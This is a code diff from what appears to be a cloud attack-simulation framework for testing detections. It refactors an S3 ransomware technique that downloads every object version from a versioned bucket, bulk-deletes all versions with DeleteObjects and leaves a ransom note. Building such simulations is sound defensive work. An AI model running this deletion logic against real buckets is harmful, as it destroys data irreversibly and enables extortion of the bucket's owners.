@@ -3,19 +3,18 @@
 from __future__ import annotations
 
 from cloudsoc.aws.session import client
-from cloudsoc.simulate.technique import Ctx, Json, Technique, technique
+from cloudsoc.simulate.technique import Ctx, Json, technique
 from cloudsoc.simulate.techniques.impact._ransom_bucket import (
     NOTE,
     NOTE_KEY,
+    RansomBucketTechnique,
     all_versions,
     download_all,
-    make_bucket,
-    remove_bucket,
 )
 
 
 @technique
-class S3RansomwareBatchDeletion(Technique):
+class S3RansomwareBatchDeletion(RansomBucketTechnique):
     title = "S3 ransomware through batch file deletion"
     attack = ("T1485",)
     expects = ("s3_object_versions_batch_deleted",)
@@ -23,9 +22,6 @@ class S3RansomwareBatchDeletion(Technique):
         "Downloads every object of a versioned bucket, lists every version and deletes them all in one "
         "DeleteObjects request (versioning is no protection), and leaves a ransom note."
     )
-
-    def warmup(self, ctx: Ctx) -> Json:
-        return make_bucket(ctx)
 
     def detonate(self, ctx: Ctx, state: Json) -> None:
         s3 = client("s3", session=ctx.attacker())
@@ -37,6 +33,3 @@ class S3RansomwareBatchDeletion(Technique):
                 Bucket=bucket, Delete={"Objects": versions[start : start + 1000], "Quiet": True}
             )
         s3.put_object(Bucket=bucket, Key=NOTE_KEY, Body=NOTE)
-
-    def revert(self, ctx: Ctx, state: Json) -> None:
-        remove_bucket(ctx, state)
